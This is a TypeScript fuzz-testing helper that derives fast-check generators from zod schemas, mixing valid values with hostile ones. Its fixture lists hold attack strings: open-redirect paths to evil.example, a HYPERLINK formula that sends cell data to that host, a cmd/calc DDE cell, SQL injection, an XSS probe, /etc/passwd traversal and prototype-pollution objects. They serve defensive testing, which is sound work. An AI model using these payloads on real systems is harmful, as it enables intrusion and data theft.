// fast-check arbitraries derived from the app's own zod schemas: mostly valid values (so generated requests
// get past parsing and into the code behind it), with a share of wrong-typed, oversized and hostile values
// at every level (so the error paths are exercised too).
import fc from "fast-check";
import type { z } from "zod";

type Def = { type: string; [k: string]: unknown };
type Check = { _zod: { def: { check: string; [k: string]: unknown } } };
const defOf = (s: unknown): Def => (s as { _zod: { def: Def } })._zod.def;

/**
 * The seven holes of issue 11 as values: the mailbox page's path, the development cron secret, `next`
 * paths that leave the site after the browser's URL parsing, multi-line formula cells, forwarded-address
 * spoofs, and lone UTF-16 surrogates. (Refused-then-referenced ids come from the id pool of the fuzz suite.)
 */
export const issue11Values = [
  "/dev/mailbox",
  "Bearer rimebook-development-cron",
  "/\t/localhost:3999/phish",
  "/\n/evil.example",
  "/\r/evil.example",
  "/\\evil.example",
  "//evil.example",
  "javascript:alert(1)",
  '=HYPERLINK("http://evil.example/?x="&A1,\n"Open")',
  "+1+cmd|' /C calc'!A0\nline two",
  "-2+3\r\n=1+1",
  "@SUM(1,1)\n",
  "\t=1+1",
  "\r=1+1",
  "203.0.113.7, 10.0.0.1",
  "unknown",
  "\uD800",
  "Wren \uD83C",
  "\uDFFF Alder",
];

/** Hostile or odd JSON values any field may receive instead of what it expects. */
export const junk: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(null, "", " ", 0, -1, 1e308, -1e308, 0.5, true, false, [], {}, "null", "undefined", "NaN"),
  fc.constantFrom("'; DROP TABLE bags; --", "<script>alert(1)</script>", "../../etc/passwd", "\u0000", "\uFFFF\uD800", "%00", "${x}", "__proto__"),
  fc.constantFrom(...issue11Values),
  fc.constant({ __proto__: { admin: true } }),
  fc.constant(JSON.parse('{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}')),
  fc.string({ maxLength: 40 }),
  fc.constantFrom("x".repeat(6000), "é".repeat(3000)),
  fc.integer(),
  fc.double({ noNaN: true }),
  fc.array(fc.string({ maxLength: 5 }), { maxLength: 5 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.string({ maxLength: 8 }), { maxKeys: 4 }),
);

const isoDay = fc.date({ min: new Date("1990-01-01"), max: new Date("2090-12-31"), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10));
const isoDateTime = fc
  .date({ min: new Date("1990-01-01"), max: new Date("2090-12-31"), noInvalidDate: true })
  .map((d) => d.toISOString());

export type ArbitraryOptions = {
  /** Ids that exist in the database under test; a uuid field picks one of them half of the time. */
  ids?: () => string[];
  /** Probability of junk instead of a valid value at each node (default 0.08). */
  noise?: number;
};

/** Strings matching a pattern (flags dropped: fast-check needs a plain pattern; the case-sensitive set is a subset). */
function matching(pattern: RegExp): fc.Arbitrary<string> {
  try {
    return fc.stringMatching(new RegExp(pattern.source));
  } catch {
    return fc.string({ maxLength: 40 });
  }
}

/**
 * Strings of the pattern's characters within length limits (for `^[class]+$`-style rules with min/max):
 * filtering pattern samples by length would spin for ever when the limits are far from typical samples.
 */
function matchingWithin(pattern: RegExp, min: number, max: number): fc.Arbitrary<string> {
  const chars = [...new Set(fc.sample(matching(pattern), { numRuns: 200, seed: 1 }).join(""))];
  const sized = chars.length ? fc.string({ minLength: min, maxLength: Math.min(max, min + 60), unit: fc.constantFrom(...chars) }) : fc.string({ minLength: min, maxLength: max });
  return fc.oneof({ weight: 3, arbitrary: sized }, { weight: 1, arbitrary: matching(pattern) });
}

function stringArb(def: Def, opts: ArbitraryOptions): fc.Arbitrary<string> {
  const checks = [def, ...(((def.checks as Check[]) ?? []).map((c) => c._zod.def))] as Record<string, unknown>[];
  const format = checks.find((c) => c.format ?? c.check === "string_format")?.format as string | undefined;
  let min = 0;
  let max = 60;
  for (const c of checks) {
    if (c.check === "min_length") min = Math.max(min, c.minimum as number);
    if (c.check === "max_length") max = Math.min(Math.max(max, min), c.maximum as number);
    if (c.check === "length_equals") min = max = c.length as number;
  }
  if (max < min) max = min;
  const pick = (arr: string[]) => fc.nat().map((i) => arr[i % arr.length]);
  switch (format) {
    case "uuid":
    case "guid": {
      const ids = opts.ids;
      return ids ? fc.oneof(fc.uuid({ version: 4 }), fc.nat().chain(() => (ids().length ? pick(ids()) : fc.uuid({ version: 4 })))) : fc.uuid({ version: 4 });
    }
    case "email":
      // Plain addresses the way people type them (fast-check's RFC-complete ones are mostly refused by design).
      return fc.oneof(
        { weight: 4, arbitrary: fc.tuple(fc.stringMatching(/^[a-z][a-z0-9.]{0,12}[a-z0-9]$/), fc.stringMatching(/^[a-z]{2,10}$/)).map(([u, d]) => `${u.replace(/\.\.+/g, ".")}@${d}.example`) },
        { weight: 1, arbitrary: fc.emailAddress() },
      );
    case "date":
      return isoDay;
    case "datetime":
      return isoDateTime;
    case "url":
      return fc.webUrl();
    case "regex": {
      const pattern = checks.find((c) => c.format === "regex")?.pattern as RegExp | undefined;
      if (pattern) return matchingWithin(pattern, min, Math.max(max, min));
    }
  }
  const pattern = def.pattern as RegExp | undefined;
  if (format && pattern instanceof RegExp) return matching(pattern);
  // Printable text mostly, now and then any code points (still within the length limits).
  const hi = Math.min(max, 200);
  return fc
    .oneof({ weight: 9, arbitrary: fc.string({ minLength: min, maxLength: hi }) }, { weight: 1, arbitrary: fc.string({ minLength: min, maxLength: hi, unit: "binary" }) })
    .map((s) => (min > 0 && s.trim().length < min ? "x".repeat(min) : s));
}

function numberArb(def: Def): fc.Arbitrary<number> {
  let min = -1e6;
  let max = 1e6;
  let int = false;
  for (const c of ((def.checks as Check[]) ?? []).map((x) => x._zod.def) as Record<string, unknown>[]) {
    if (c.check === "number_format" && /int/.test(String(c.format))) int = true;
    if (c.check === "greater_than") min = (c.value as number) + (c.inclusive ? 0 : int ? 1 : 1e-9);
    if (c.check === "less_than") max = (c.value as number) - (c.inclusive ? 0 : int ? 1 : 1e-9);
  }
  if (def.type === "int" || def.format === "safeint") int = true;
  return int ? fc.integer({ min: Math.ceil(min), max: Math.floor(max) }) : fc.double({ min, max, noNaN: true, noDefaultInfinity: true });
}

/** An arbitrary for values of `schema`: valid most of the time, junk at any node now and then. */
export function arbitraryFor(schema: z.ZodType, opts: ArbitraryOptions = {}, depth = 0): fc.Arbitrary<unknown> {
  const noise = opts.noise ?? 0.08;
  const valid = validArb(schema, opts, depth);
  const w = Math.round(noise * 100);
  return w > 0 ? fc.oneof({ weight: 100 - w, arbitrary: valid }, { weight: w, arbitrary: junk }) : valid;
}

function validArb(schema: z.ZodType, opts: ArbitraryOptions, depth: number): fc.Arbitrary<unknown> {
  const def = defOf(schema);
  const sub = (s: unknown) => arbitraryFor(s as z.ZodType, opts, depth + 1);
  if (depth > 8) return junk;
  switch (def.type) {
    case "string":
      return stringArb(def, opts);
    case "number":
    case "int":
      return numberArb(def);
    case "bigint":
      return fc.bigInt().map(String);
    case "boolean":
      return fc.boolean();
    case "null":
      return fc.constant(null);
    case "undefined":
    case "void":
      return fc.constant(undefined);
    case "date":
      return isoDateTime;
    case "enum":
      return fc.constantFrom(...Object.values(def.entries as Record<string, string>));
    case "literal":
      return fc.constantFrom(...(def.values as unknown[]));
    case "optional":
      return fc.option(sub(def.innerType), { nil: undefined, freq: 4 });
    case "nullable":
      return fc.option(sub(def.innerType), { nil: null, freq: 4 });
    case "default":
    case "prefault":
      return fc.option(sub(def.innerType), { nil: undefined, freq: 4 });
    case "catch":
    case "readonly":
    case "nonoptional":
      return sub(def.innerType);
    case "pipe":
      // Validation usually sits in the output schema (string → email, preprocess → number); transforms in the input.
      return sub(defOf(def.out).type === "transform" ? def.in : def.out);
    case "lazy":
      return sub((def.getter as () => unknown)());
    case "union":
      return fc.oneof(...(def.options as unknown[]).map(sub));
    case "intersection":
      return fc.tuple(sub(def.left), sub(def.right)).map(([a, b]) => (a && b && typeof a === "object" && typeof b === "object" ? { ...a, ...b } : a));
    case "array": {
      const checks = ((def.checks as Check[]) ?? []).map((c) => c._zod.def) as Record<string, unknown>[];
      const minLength = (checks.find((c) => c.check === "min_length")?.minimum as number) ?? 0;
      const maxLength = Math.min((checks.find((c) => c.check === "max_length")?.maximum as number) ?? 6, 8);
      return fc.array(sub(def.element), { minLength: Math.min(minLength, maxLength), maxLength: Math.max(minLength, maxLength) });
    }
    case "tuple":
      return fc.tuple(...(def.items as unknown[]).map(sub));
    case "record":
      return fc.dictionary(fc.string({ minLength: 1, maxLength: 12 }), sub(def.valueType), { maxKeys: 4 });
    case "object": {
      const shape = def.shape as Record<string, unknown>;
      const record: Record<string, fc.Arbitrary<unknown>> = {};
      for (const [k, s] of Object.entries(shape)) record[k] = sub(s);
      // Now and then an unknown extra key rides along.
      return fc.tuple(fc.record(record), fc.option(fc.dictionary(fc.constantFrom("farm_id", "role", "seq", "extra", "isAdmin"), junk, { maxKeys: 2 }), { freq: 5 })).map(([o, extra]) => ({
        ...(extra ?? {}),
        ...Object.fromEntries(Object.entries(o as Record<string, unknown>).filter(([, v]) => v !== undefined)),
      }));
    }
    case "unknown":
    case "any":
      return junk;
    default:
      return junk;
  }
}
